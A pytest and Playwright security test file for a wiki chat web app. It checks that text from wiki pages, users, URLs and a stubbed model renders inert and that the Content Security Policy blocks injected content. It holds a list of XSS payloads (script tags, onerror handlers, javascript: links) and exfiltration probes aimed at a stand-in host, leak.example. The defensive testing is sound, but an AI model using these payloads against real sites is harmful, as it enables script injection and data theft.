"""Hostile text from the wiki, from users and from the model: nothing runs, nothing leaves."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from knowledge.store.embedders import WordLlamaEmbedder
from tests.agent.openai_stub import OpenAIStub, Reply, Request, call, say
from tests.conftest import ingest_quietly, read_sources
from tests.faces.web.browser.acting import ask
from tests.faces.web.browser.conftest import MANY_REQUESTS, Watched
from tests.faces.web.conftest import Server, serving
from tests.faces.web.scripted import claims, model_is
from tests.tiny_wiki import write_tiny_wiki

LEAK = "http://leak.example"
RUN = "window.pwned=1;alert(1)"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f'"><svg onload="{RUN}">',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"[press](javascript:{RUN})",
    f"![seen]({LEAK}/seen.png?q=secret)",
    f'<img src="{LEAK}/raw.png">',
    f"[![x]({LEAK}/in.png)]({LEAK}/out)",
    f"<style>@import '{LEAK}/style.css'; body {{ display: none }}</style>",
    f'<link rel="prefetch" href="{LEAK}/link"><base href="{LEAK}/">',
    f'<meta http-equiv="refresh" content="0; url={LEAK}/meta">',
    f"<form action='{LEAK}/form'><button id='send'>Ask</button></form>",
    f"<{LEAK}/auto>",
    "{{ 7 * 191 }} ${7 * 191} {% raw %}",
    '</textarea></script><details open ontoggle="alert(1)">',
    "`</code><script>alert(2)</script>`",
)
ALL = " ".join(PAYLOADS)
TICKING = "Kettles and Clocks"


def poisoned_wiki(root: Path) -> Path:
    """Write a wiki with payloads in titles, headings, names, link labels and sentences."""
    write_tiny_wiki(root)
    cited = "[[podcast:tea-shop-forecasts|Ada’s episode]]"
    said = "\n".join(
        f"- Kettle number {number} boils before the clock {text} strikes ({cited}, {number}:05)."
        for number, text in enumerate(PAYLOADS)
    )
    pages = {
        f"_wiki/kettles-{number}.md": f"---\nlayout: wiki\ntitle: {json.dumps(title)}\n"
        f"summary: {json.dumps(f'Which kettle boils first. {text}')}\n---\n\n"
        f"## Which kettle boils {text}\n\n{said}\n"
        for number, (title, text) in enumerate(
            [(TICKING, ALL), (f"Kettles <img src=x onerror='{RUN}'>", PAYLOADS[0])]
        )
    }
    pages["_people/evekettle.md"] = f'---\ntitle: "Eve <img src=x onerror={RUN}>"\n---\n'
    for name, text in pages.items():
        (root / name).write_text(text, encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store of that wiki."""
    folder = tmp_path_factory.mktemp("poisoned")
    store = folder / "store"
    ingest_quietly(read_sources(poisoned_wiki(folder / "wiki")), store, WordLlamaEmbedder())
    return store


@pytest.fixture(scope="module")
def site(poisoned: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("site")
    with serving(folder / "data", poisoned, folder / "log", **MANY_REQUESTS) as running:
        yield running


def harmless(page: Page) -> None:
    """Make sure that nothing ran and that nothing of it became a part of the page."""
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    made = "script:not([src='/static/app.js']), iframe, svg, object, embed, base, style, form"
    assert page.locator(f"main :is({made}):not(#ask)").count() == 0
    assert page.locator("img:not([src^='/api/v1/plans/'])").count() == 0
    links = page.evaluate("[...document.links].map(link => link.href)")
    hosts = (
        "https://www.youtube.com/",
        "https://datatalks.club/",
        page.evaluate("location.origin"),
    )
    assert [link for link in links if not link.startswith(hosts)] == []
    handlers = page.evaluate(
        "[...document.querySelectorAll('*')].flatMap(one => one.getAttributeNames())"
        ".filter(name => name.startsWith('on') || name === 'style')"
    )
    assert handlers == []


def test_text_of_a_wiki_stays_text(page: Page) -> None:
    for number, question in enumerate((f"What about {TICKING}?", "Which kettle boils?"), start=1):
        answer = ask(page, question, number=number)
        expect(answer).to_contain_text("ettle")
        harmless(page)
    page.locator("a.mark").first.click()
    expect(page.locator("#panel")).to_contain_text("Kettle")
    harmless(page)
    page.reload()
    harmless(page)


def test_text_of_a_user_stays_text_in_the_question_the_list_the_profile_and_dialogs(
    page: Page,
) -> None:
    asked = f"I know SQL {ALL[:1500]}, what does a kettle do?"
    answer = ask(page, asked)
    assert "<script>" in answer.locator(".question p").inner_text()
    harmless(page)
    thread = page.url
    for address in (thread, "/profile", "/plans", "/"):
        page.goto(address)
        harmless(page)
    page.locator("#threads summary").first.click()
    page.get_by_role("button", name="Delete").first.click()
    expect(page.get_by_role("dialog")).to_contain_text("SQL")
    harmless(page)
    page.get_by_role("dialog").get_by_role("button", name="Cancel").click()
    page.get_by_role("searchbox").fill(PAYLOADS[1])
    harmless(page)


@pytest.mark.parametrize(
    "address", ["/threads/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/plans/%3Cimg%20src=x%3E", "/x"]
)
def test_an_address_stays_out_of_the_page(page: Page, watched: Watched, address: str) -> None:
    page.goto(address)
    expect(page.locator("body")).not_to_contain_text("alert")
    harmless(page)


def test_text_of_a_model_stays_text_while_it_streams_and_afterwards(
    browser: Browser, poisoned: Path, tmp_path: Path
) -> None:
    def poisonous(request: Request) -> Reply:
        (name, said), *_ = claims(request)
        lines = "\n\n".join(f"Kettles boil. {payload}" for payload in PAYLOADS)
        return say(f"{said} [{name}].\n\n{lines}\n\n```html\n{ALL}\n```\n| a | b |\n|{ALL}|x|")

    with OpenAIStub() as stub:
        looks_up = call(("look_up_sections", {"question": "Which kettle boils?"}))
        stub.script(looks_up, poisonous, poisonous, poisonous)  # what does not hold is rewritten
        variables = model_is(stub) | MANY_REQUESTS
        with serving(tmp_path / "data", poisoned, tmp_path / "log", **variables) as server:
            watched = Watched(browser, server.url)
            page = watched.page()
            page.goto("/")
            answer = ask(page, "Which kettle boils?")
            expect(answer.locator(".made")).to_contain_text("openai:stub")
            harmless(page)
            page.reload()
            harmless(page)
            watched.context.close()
    assert watched.hosts == {watched.own_host}
    assert watched.mishaps == []


def test_the_policy_would_stop_what_got_through(page: Page, watched: Watched) -> None:
    """The second wall, tried by breaking the first one on purpose."""
    page.evaluate(
        f"""document.getElementById('main').insertAdjacentHTML('beforeend',
        "<img src=x onerror='{RUN.replace("1", "2")}'><img src='{LEAK}/leak.png'>")"""
    )
    page.wait_for_timeout(500)
    assert page.evaluate("window.pwned") is None
    refused = [text for text in watched.mishaps if "Content Security Policy" in text]
    assert len(refused) == 2
    assert len(watched.mishaps) == 2
    assert watched.failures[f"{LEAK}/leak.png"] == "csp"
    watched.mishaps.clear()
    watched.hosts.discard("leak.example")
